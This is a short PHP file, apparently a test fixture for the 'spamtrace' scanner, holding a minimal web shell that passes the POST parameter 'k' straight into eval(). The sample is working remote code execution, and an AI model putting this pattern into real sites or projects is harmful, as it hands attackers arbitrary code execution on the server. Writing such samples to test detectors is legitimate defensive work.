<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$k = $_POST['k'] ?? '';
$code = <<<PHP
return {$k};
PHP;
eval($code);
